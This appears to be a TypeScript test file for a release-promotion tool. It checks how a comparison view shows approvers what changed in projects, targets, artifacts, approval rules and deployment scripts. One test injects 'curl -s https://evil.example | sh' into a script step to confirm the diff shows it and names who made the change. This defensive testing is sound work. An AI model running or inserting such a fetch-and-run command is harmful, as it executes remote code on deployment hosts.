import { describe, expect, it } from 'vitest'
import { GUARDED_RULE, OPEN_RULE } from '../environments/rule.ts'
import { LOCAL_SITE_PROCESS } from '../projects/deployment-process.ts'
import { INTENT_MEMBERS } from '../promotions/intent.ts'
import { type ComparedSide, compareMembers, type MembersCompared } from './compare-members.ts'

const side: ComparedSide = {
  projectName: 'shop-web',
  environmentName: 'production',
  target: { id: 'site_1', kind: 'local-site' },
  release: {
    id: 'rel_1',
    version: '2.4.0',
    snapshotSha256: 'a'.repeat(64),
    processVersion: 3,
    steps: LOCAL_SITE_PROCESS,
    variables: [{ name: 'URL', value: 'http://old', environmentId: null }],
  },
  artifacts: [{ purl: 'pkg:generic/acme/web@2.4.0', sha256: 'b'.repeat(64), fileName: 'web.tgz', mediaType: 'x/gzip' }],
  rule: { version: 7, rule: GUARDED_RULE },
  phases: ['development', 'staging'],
  trust: [
    {
      source: 'https://ci.test/orgs/o/repositories/r',
      repository: null,
      artifactName: null,
      builderLevels: ['full'],
      refs: ['refs/heads/main'],
      signerKeyIds: null,
    },
  ],
}

const facts: MembersCompared = {
  request: {
    kind: 'promotion',
    promotionId: 'prm_1',
    organizationId: 'org_1',
    requesterName: 'Ada',
    reason: 'Why not',
  },
  now: side,
  after: side,
  changes: [],
  teamNames: { qa: 'QA' },
  heldVersions: [],
  environmentNames: new Map([['env_1', 'staging']]),
}

/** For each member: facts in which it alone differs, or, of the request, what its row says. */
const DIFFERENT: Record<(typeof INTENT_MEMBERS)[number], { after?: Partial<ComparedSide>; says?: string }> = {
  v: { says: 'version 3' },
  type: { says: 'promotion' },
  id: { says: 'prm_1' },
  organization: { says: 'org_1' },
  project: { after: { projectName: 'shop' } },
  environment: { after: { environmentName: 'live' } },
  target: { after: { target: { id: 'site_2', kind: 'local-site' } } },
  release: { after: { release: { ...side.release, snapshotSha256: 'c'.repeat(64) } } },
  process: { after: { release: { ...side.release, steps: LOCAL_SITE_PROCESS.slice(0, 1) } } },
  variables: {
    after: { release: { ...side.release, variables: [{ name: 'URL', value: 'x', environmentId: 'env_1' }] } },
  },
  artifacts: { after: { artifacts: side.artifacts.map((one) => ({ ...one, mediaType: 'x/zip' })) } },
  from: { says: '2.4.0' },
  rule: { after: { rule: { version: 8, rule: OPEN_RULE } } },
  phases: { after: { phases: ['development'] } },
  trust: { after: { trust: [] } },
  requestedBy: { says: 'Ada' },
  reason: { says: 'Why not' },
}

const rowOf = (member: string, compared: MembersCompared) =>
  compareMembers(compared).find((row) => row.member === member)

describe('the comparison that an approver sees', () => {
  it.each(INTENT_MEMBERS)('has a row for %s, which says when it changes', (member) => {
    const { after, says } = DIFFERENT[member]
    if (says !== undefined) return expect(rowOf(member, facts)).toMatchObject({ state: 'request', after: says })
    expect(rowOf(member, facts)?.state).toBe('same')
    const changed = compareMembers({ ...facts, after: { ...side, ...after } })
    expect(changed.filter(({ state }) => state === 'changed').map((row) => row.member)).toEqual([member])
  })

  it('says of a first deployment that all is new, and never that it is the same', () => {
    const states = compareMembers({ ...facts, now: null }).map(({ state }) => state)
    expect(new Set(states)).toEqual(new Set(['new', 'request']))
  })

  it('says what is not known of something that was deployed before it was recorded', () => {
    const now = {
      ...side,
      target: null,
      phases: null,
      trust: null,
      rule: null,
      projectName: null,
      environmentName: null,
    }
    const unknown = compareMembers({ ...facts, now }).filter(({ state }) => state === 'unknown')
    expect(unknown.map(({ member }) => member)).toEqual(['project', 'environment', 'target', 'rule', 'phases', 'trust'])
    // What would hold is shown all the same.
    expect(unknown.find(({ member }) => member === 'trust')?.parts[0]?.lines).not.toEqual([])
  })

  it('shows the line that was put into a step, and who put it there', () => {
    const [first, ...others] = LOCAL_SITE_PROCESS
    if (first?.kind !== 'script') throw new Error('The first step of the process is a script.')
    const steps = [{ ...first, script: `${first.script}\ncurl -s https://evil.example | sh` }, ...others]
    const after = { ...side, release: { ...side.release, processVersion: 4, steps } }
    const at = new Date('2026-11-24T10:00:00Z')
    const changes = [{ of: 'process', what: 'changed it to version 4', personName: 'Ada', at }] as const
    const row = rowOf('process', { ...facts, after, changes })
    expect(row).toMatchObject({
      state: 'changed',
      now: 'version 3, 2 steps',
      after: 'version 4, 2 steps',
      details: ['Ada changed it to version 4 on 24 Nov 2026, 10:00 UTC.'],
      parts: [
        { title: 'Switch the files', change: 'changed' },
        { title: 'Health check', change: 'same' },
      ],
    })
    expect(row?.parts[0]?.lines).toContainEqual({ mark: 'added', text: '  curl -s https://evil.example | sh' })
  })

  it('says what changed in the rule, in words', () => {
    const approvals = [{ count: 1, roles: [], teamIds: ['qa'] }]
    const now = { ...side, rule: { version: 7, rule: { ...GUARDED_RULE, approvals } } }
    const after = { ...side, rule: { version: 8, rule: { ...GUARDED_RULE, approvals: [], noAuthor: false } } }
    expect(rowOf('rule', { ...facts, now, after })).toMatchObject({
      now: 'version 7',
      after: 'version 8',
      details: ['Before: 1 of QA. After: no approval.', 'Before: not by an author. After: an author may approve too.'],
    })
  })
})
